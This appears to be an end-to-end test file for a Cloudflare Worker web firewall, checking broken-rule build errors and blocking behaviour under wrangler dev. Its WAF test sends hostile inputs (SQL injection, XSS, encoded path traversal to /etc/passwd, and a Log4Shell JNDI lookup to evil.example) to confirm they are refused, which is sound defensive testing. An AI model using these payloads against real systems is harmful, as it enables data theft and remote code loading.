// The two things a user runs: `scripts/dev.sh` (wrangler dev on the shipped
// rules, in front of the built-in echo origin), and a build with a broken
// rule file, which must fail and say where and how to fix it.
import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { createServer } from "node:net";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { FORBIDDEN_MESSAGE, ROOT } from "./harness.mjs";

const env = { ...process.env, WRANGLER_SEND_METRICS: "false", CLOUDFLARE_CF_FETCH_ENABLED: "false" };
delete env.EDGEWALL_RULES_DIR;

function run(cmd, args, extraEnv = {}) {
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { cwd: ROOT, env: { ...env, ...extraEnv } });
    let out = "";
    child.stdout.on("data", (d) => (out += d));
    child.stderr.on("data", (d) => (out += d));
    child.on("close", (code) => resolve({ code, out }));
  });
}

async function freePort() {
  const srv = createServer();
  await new Promise((r) => srv.listen(0, "127.0.0.1", r));
  const { port } = srv.address();
  await new Promise((r) => srv.close(r));
  return port;
}

describe("a broken rule file never deploys", () => {
  it("wrangler's build fails with every error, each with file:line:column and a hint", async () => {
    const outdir = mkdtempSync(path.join(tmpdir(), "edgewall-broken-"));
    const { code, out } = await run("npx", ["wrangler", "deploy", "--dry-run", "--outdir", outdir], {
      EDGEWALL_RULES_DIR: "tests/e2e/broken-rules",
    });
    assert.notEqual(code, 0, out);
    const file = "tests/e2e/broken-rules/10-acl.toml";
    assert.match(out, new RegExp(`unknown \`default\` value \`alow\`[\\s\\S]*--> ${file}:3:11`));
    assert.match(out, /help: did you mean `allow`\?/);
    assert.match(out, new RegExp(`host bits set in \`10\\.0\\.0\\.1/8\`[\\s\\S]*--> ${file}:8:10`));
    assert.match(out, /write the network `10\.0\.0\.0\/8`, or `10\.0\.0\.1\/32` for the single host/);
    assert.match(out, new RegExp(`unknown field \`actoin\`[\\s\\S]*--> ${file}:12:1`));
    assert.match(out, /rules did not load: 3 errors/);
    assert.match(out, /the Worker was not built/);
  });
});

describe("scripts/dev.sh runs the firewall under wrangler dev", () => {
  it("serves the echo origin for allowed requests, the 403 for the blocklist and for attacks", { timeout: 300_000 }, async () => {
    const port = await freePort();
    const child = spawn("bash", ["scripts/dev.sh", "--inspector-port", String(await freePort())], {
      cwd: ROOT,
      env: { ...env, PORT: String(port) },
      detached: true, // own process group: wrangler leaves children behind otherwise
    });
    let out = "";
    child.stdout.on("data", (d) => (out += d));
    child.stderr.on("data", (d) => (out += d));
    try {
      const base = `http://127.0.0.1:${port}`;
      const deadline = Date.now() + 280_000;
      for (;;) {
        if (/Ready on/.test(out)) break;
        if (child.exitCode !== null) assert.fail(`wrangler dev exited early:\n${out}`);
        if (Date.now() > deadline) assert.fail(`wrangler dev did not start:\n${out}`);
        await new Promise((r) => setTimeout(r, 250));
      }

      const ok = await fetch(`${base}/hello?x=1`, {
        method: "POST",
        body: "hello",
        headers: { "cf-connecting-ip": "198.51.100.1" },
      });
      assert.equal(ok.status, 200);
      assert.equal(ok.headers.get("x-edgewall-echo"), "1");
      const echo = await ok.json();
      assert.equal(echo.method, "POST");
      assert.equal(echo.body_bytes, 5);

      // dev.sh builds for local testing: a loopback request may say where
      // it comes from (a production build ignores this: geo.test.mjs).
      const blocked = await fetch(`${base}/`, {
        headers: { "cf-connecting-ip": "192.0.2.10", "x-edgewall-test-country": "de" },
      });
      assert.equal(blocked.status, 403);
      const json = await blocked.json();
      assert.equal(json.message, FORBIDDEN_MESSAGE);
      assert.equal(blocked.headers.get("cache-control"), "no-store");

      const deadlineLog = Date.now() + 5000;
      while (!out.includes(json.request_id) && Date.now() < deadlineLog) {
        await new Promise((r) => setTimeout(r, 100));
      }
      assert.ok(out.includes(`"request_id":"${json.request_id}"`), "the decision is logged in wrangler's output");
      assert.ok(out.includes('"rule":"blocklist"'));
      const line = out.split("\n").find((l) => l.includes(`"request_id":"${json.request_id}"`));
      assert.match(line, /"country":"DE"/, "the pretended country reaches the decision");

      // The shipped WAF ruleset, on workerd: attacks refused, ordinary
      // text with SQL words and quotes let through.
      const ip = { "cf-connecting-ip": "198.51.100.9" };
      for (const attack of [
        "/?id=1%20UNION%20SELECT%20password%20FROM%20users--",
        "/?q=%3Csvg%2Fonload%3Dalert(1)%3E",
        "/?file=..%252f..%252f..%252fetc%252fpasswd",
        "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
      ]) {
        const r = await fetch(`${base}${attack}`, { headers: ip });
        assert.equal(r.status, 403, attack);
        assert.equal((await r.json()).message, FORBIDDEN_MESSAGE);
      }
      for (const fine of ["/search?q=O%27Reilly%20books", "/search?q=how%20to%20select%20a%20union%20rep"]) {
        const r = await fetch(`${base}${fine}`, { headers: ip });
        assert.equal(r.status, 200, fine);
        await r.arrayBuffer();
      }
    } finally {
      try {
        process.kill(-child.pid, "SIGTERM");
      } catch {
        /* already gone */
      }
    }
  });
});
